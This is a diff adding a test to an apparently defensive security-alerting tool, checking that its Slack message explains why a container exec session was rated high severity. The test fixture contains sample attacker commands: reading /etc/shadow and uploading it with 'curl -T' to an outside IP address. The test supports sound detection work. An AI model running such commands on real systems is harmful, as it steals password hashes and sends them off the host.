@@ -58,6 +58,17 @@ describe("slackPayload", () => {
     expect(texts).toContain("What to do: confirm with the person; if not expected, revoke the token and review what the account can do");
   });
 
+  it("says what made an exec session high", () => {
+    const reasons = ["reads the password hashes (/etc/shadow)", "moves data out (curl -T)"];
+    const riskyProcesses = [
+      { binary: "/bin/cat", args: "/etc/shadow", time: "2024-05-01T10:00:01.000000000Z", reasons: reasons.slice(0, 1) },
+      { binary: "/usr/bin/curl", args: "-T /etc/shadow https://203.0.113.50", time: "2024-05-01T10:00:02.000000000Z", reasons },
+    ];
+    const finding = execSession({ severity: "high", evidence: { ...execSession().evidence, riskyProcesses } });
+    const texts = blockTexts(slackPayload(delivery({ findings: [finding] }))).join("\n");
+    expect(texts).toContain("what ran in it reads the password hashes (/etc/shadow), moves data out (curl -T)");
+  });
+
   it("takes the colour of the highest severity and counts what is not listed", () => {
     const findings = [execSession(), replicaDeviation(), execSession(), execSession(), execSession(), execSession()];
     const message = slackPayload(delivery({ findings, total: 40 }));
